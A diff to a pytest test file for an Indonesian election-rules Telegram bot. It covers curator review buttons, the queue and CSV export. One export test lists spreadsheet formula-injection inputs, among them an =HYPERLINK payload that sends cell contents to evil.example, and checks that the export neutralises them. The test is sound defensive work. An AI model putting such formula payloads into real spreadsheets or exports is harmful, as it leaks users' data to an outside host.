@@ -6,22 +6,21 @@ the fake Bot API server), with a real QuestionLog in a temporary folder.
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import json
+import random
 import shutil
 import sqlite3
+import string
 import struct
 from dataclasses import replace
 from datetime import datetime, timedelta, timezone
-from email.parser import BytesParser
-from email.policy import HTTP
 from pathlib import Path
 
 import pytest
-from conftest import TOKEN
 
-import fakebotapi
 from fakebotapi import Call
 from bot import messages as msg
 from bot.config import Config
@@ -29,57 +28,18 @@ from bot.engine import Engine
 from bot.knowledge import load
 from bot.logexport import EXPORT_COLUMNS
 from bot import review
-from bot.storage import QuestionLog
+from bot.storage import INSERT_QUESTION, QuestionLog
 
 CURATOR = 4242
 STRANGER = 501
 LEARNABLE = "bolehkah saya ikut lomba mancing yang disponsori caleg"
 SECRET_QUESTION = "Rahasia: boleh tanam pohon mangga <b>di</b> kantor & halaman?"
-
-
-class FakeAPI(fakebotapi.FakeBotAPI):
-    """The shared fake server, plus sendDocument (a multipart upload) for /ekspor."""
-
-    def _m_senddocument(self, params: dict) -> dict:
-        chat = self._chat(params.get("chat_id"))
-        return {"message_id": self.next_message_id(), "chat": chat, "date": 0,
-                "from": {"id": fakebotapi.BOT_ID, "is_bot": True, "first_name": "Tanya Netral"},
-                "document": {"file_id": "BQAC", "file_unique_id": "AgAD",
-                             "file_name": params["document"]["filename"]}}
-
-
-def parse_params(content_type: str, body: bytes) -> dict:
-    """fakebotapi's parser, extended to multipart/form-data (file uploads)."""
-    if not content_type.startswith("multipart/form-data"):
-        return original_parse_params(content_type, body)
-    form = BytesParser(policy=HTTP).parsebytes(f"Content-Type: {content_type}\r\n\r\n".encode() + body)
-    params: dict = {}
-    for part in form.iter_parts():
-        name = part.get_param("name", header="content-disposition")
-        data = part.get_payload(decode=True)
-        if part.get_filename():
-            params[name] = {"filename": part.get_filename(), "data": data}
-        elif name in fakebotapi.STRING_PARAMS:
-            params[name] = data.decode()
-        else:
-            params[name] = json.loads(data)
-    return params
-
-
-original_parse_params = fakebotapi._parse_params
+LIKE_QUESTION = "boleh gak saya nge-like postingan caleg?"
 
 
 @pytest.fixture(scope="module")
 def kb():
     return load()
-
-
-@pytest.fixture
-async def api(monkeypatch):
-    monkeypatch.setattr(fakebotapi, "_parse_params", parse_params)
-    server = await FakeAPI(TOKEN).start()
-    yield server
-    await server.stop()
 
 
 @pytest.fixture
@@ -249,12 +209,108 @@ async def test_learned_examples_in_the_database_are_used_from_start_up(make_bot,
 
 
 async def test_learning_for_an_unknown_entry_is_refused(bot, log):
-    qid = await ask_as_user(log, live_engine(bot), LEARNABLE)
-    bot.api.private_chat(CURATOR)
-    message = bot.api.bot_message(CURATOR, "antrian")
-    calls = await tap(bot, f"c:e:{qid}:tidak-ada", message, user_id=CURATOR)
+    await ask_as_user(log, live_engine(bot), LEARNABLE)
+    _header, group = await say(bot, "/antrian", user_id=CURATOR)
+    token = button(group, msg.BUTTON_DONE).split(":")[2]
+    calls = await tap(bot, f"c:e:{token}:tidak-ada", group.result, user_id=CURATOR)
     assert [c.method for c in calls] == ["answerCallbackQuery"] and calls[0].params["text"] == msg.ENTRY_UNKNOWN
     assert await log.learned() == [] and len(await review.queue(log)) == 1
+
+
+def learn_button(call: Call) -> str:
+    """The first 'make it an example of <entry>' button under a queue group."""
+    prefix = msg.BUTTON_LEARN.split("{")[0]
+    return next(b["callback_data"] for b in call.buttons if b["text"].startswith(prefix))
+
+
+@pytest.mark.parametrize("choose", [lambda call: button(call, msg.BUTTON_DONE),
+                                    lambda call: button(call, msg.BUTTON_IGNORE), learn_button],
+                         ids=["done", "ignore", "learn"])
+async def test_buttons_act_on_the_questions_shown_not_on_those_asked_since(bot, log, choose):
+    engine = live_engine(bot)
+    shown = {await ask_as_user(log, engine, q) for q in (LEARNABLE, LEARNABLE + "?")}
+    _header, group = await say(bot, "/antrian", user_id=CURATOR)
+    assert group.text.startswith("<b>2×</b>")
+    later = await ask_as_user(log, engine, LEARNABLE + "??")  # would join the group if regrouped now
+    calls = await tap(bot, choose(group), group.result, user_id=CURATOR)
+    [edit] = [c for c in calls if c.method == "editMessageText"]
+    assert "(2 pertanyaan" in edit.text
+    assert {r["qid"] for r in await review.export(log) if r["review"]} == shown
+    assert [g.qids for g in await review.queue(log)] == [(later,)]
+
+
+async def test_buttons_from_before_a_restart_ask_for_a_fresh_queue(bot, log):
+    qid = await ask_as_user(log, live_engine(bot), LEARNABLE)
+    _header, group = await say(bot, "/antrian", user_id=CURATOR)
+    bot.app.bot_data.pop("shown_groups")  # what a restart forgets
+    calls = await tap(bot, button(group, msg.BUTTON_DONE), group.result, user_id=CURATOR)
+    assert [(c.method, c.params.get("text")) for c in calls] == [("answerCallbackQuery", msg.CURATOR_BAD_BUTTON)]
+    assert [g.qids for g in await review.queue(log)] == [(qid,)]
+
+
+async def test_curator_buttons_fit_telegrams_limit_and_name_groups_by_a_short_token(bot, log):
+    qid = await ask_as_user(log, live_engine(bot), LEARNABLE)
+    _header, group = await say(bot, "/antrian", user_id=CURATOR)
+    areas = await tap(bot, button(group, msg.BUTTON_LEARN_OTHER), group.result, user_id=CURATOR)
+    data = [b["callback_data"] for c in (group, *areas) for b in c.buttons]
+    assert data and all(len(d.encode()) <= 64 and qid not in d for d in data)
+
+
+async def test_area_buttons_still_open_their_area_after_a_reload_adds_one_before_it(make_bot, curator_config,
+                                                                                     log, tmp_path):
+    root = tmp_path / "knowledge"
+    shutil.copytree(Path(__file__).parent / "fixtures" / "mini", root)
+    bot = await make_bot(question_log=log, config=replace(curator_config, knowledge_dir=str(root)))
+    bot.app.bot_data["engine"] = engine = Engine.from_path(root)
+    await ask_as_user(log, engine, LEARNABLE)
+    _header, group = await say(bot, "/antrian", user_id=CURATOR)
+    areas = await tap(bot, button(group, msg.BUTTON_LEARN_OTHER), group.result, user_id=CURATOR)
+    [areas_markup] = [c for c in areas if c.method == "editMessageReplyMarkup"]
+    medsos = button(areas_markup, "Media sosial")
+
+    medsos_file = (root / "entries" / "medsos.yaml").read_text(encoding="utf-8")
+    earlier_area = (medsos_file.replace("{id: medsos, title: Media sosial, order: 1}",
+                                        "{id: awal, title: Area baru, order: 0}")
+                    .replace("id: like-calon", "id: like-calon-2").replace("id: share-calon", "id: share-calon-2")
+                    .replace("[share-calon]", "[share-calon-2]").replace("Menyukai", "Memberi tanda suka pada")
+                    .replace("Membagikan", "Meneruskan"))
+    (root / "entries" / "awal.yaml").write_text(earlier_area, encoding="utf-8")
+    [reloaded] = await say(bot, "/muatulang", user_id=CURATOR)
+    assert reloaded.text.startswith("✅") and [a.id for a in engine.kb.areas] == ["awal", "medsos"]
+
+    entries = await tap(bot, medsos, group.result, user_id=CURATOR)
+    [entries_markup] = [c for c in entries if c.method == "editMessageReplyMarkup"]
+    titles = [b["text"] for b in entries_markup.buttons]
+    assert "Menyukai unggahan calon" in titles and not any("Memberi tanda suka" in t for t in titles)
+
+
+async def test_bot_keeps_answering_while_a_large_queue_is_grouped(bot, log, monkeypatch):
+    fill_queue(log.path, 3000)  # distinct questions: grouping them takes a second or more of CPU
+    loop = asyncio.get_running_loop()
+    group_questions = review.cluster
+
+    def someone_asks_meanwhile(texts):
+        loop.call_soon_threadsafe(lambda: bot.api.private_text(LIKE_QUESTION, user_id=STRANGER))
+        return group_questions(texts)
+
+    monkeypatch.setattr(review, "cluster", someone_asks_meanwhile)
+    since = len(bot.api.calls)
+    queue_calls = await bot.send(bot.api.private_text("/antrian", user_id=CURATOR), timeout=30)
+    header = next(c for c in queue_calls if c.method == "sendMessage" and c.chat_id == CURATOR)
+    assert "3000 pertanyaan dalam 3000 grup" in header.text
+    [answer] = await bot.api.wait_for("sendMessage", since=since, where=lambda c: c.chat_id == STRANGER)
+    assert "DILARANG" in answer.text
+    assert bot.api.calls.index(answer) < bot.api.calls.index(header)  # answered while the queue was grouped
+
+
+def fill_queue(path: Path, n: int) -> None:
+    """`n` distinct unanswered questions, written straight into the database."""
+    rng = random.Random(7)
+    vocabulary = ["".join(rng.choices(string.ascii_lowercase, k=6)) for _ in range(n)]
+    rows = [(f"{i:012x}", "2024-01-01T00:00:00+00:00", "private", text, text, "unanswered", None, 0.1, "x")
+            for i, text in enumerate(" ".join(rng.sample(vocabulary, 6)) for _ in range(n))]
+    with sqlite3.connect(path) as con:
+        con.executemany(INSERT_QUESTION, rows)
 
 
 # ---------------------------------------------------------------- statistics, export, reload
@@ -283,6 +339,18 @@ async def test_export_is_a_csv_document_with_bom_that_keeps_awkward_text(bot, lo
     assert len(rows) == 3 and rows[0]["question"] == awkward and tuple(rows[0]) == EXPORT_COLUMNS
     assert "3 baris" in upload.params["caption"]
     assert [c.text for c in await say(bot, "/ekspor kemarin", user_id=CURATOR)] == [msg.EXPORT_USAGE]
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 812 boleh?", "-1+1 boleh kampanye?",
+            "@SUM(1,2)", "\tboleh pakai tab?", "\r=1+1")
+
+
+async def test_export_never_hands_excel_a_formula(bot, log):
+    for q in FORMULAS:
+        await ask_as_user(log, live_engine(bot), q)
+    [upload] = [c for c in await say(bot, "/ekspor", user_id=CURATOR) if c.method == "sendDocument"]
+    rows = list(csv.DictReader(io.StringIO(upload.params["document"]["data"].decode("utf-8-sig"), newline="")))
+    assert [r["question"] for r in rows] == ["'" + q for q in FORMULAS]
 
 
 async def test_reload_keeps_the_old_knowledge_when_the_new_one_is_broken(make_bot, curator_config, log, tmp_path):
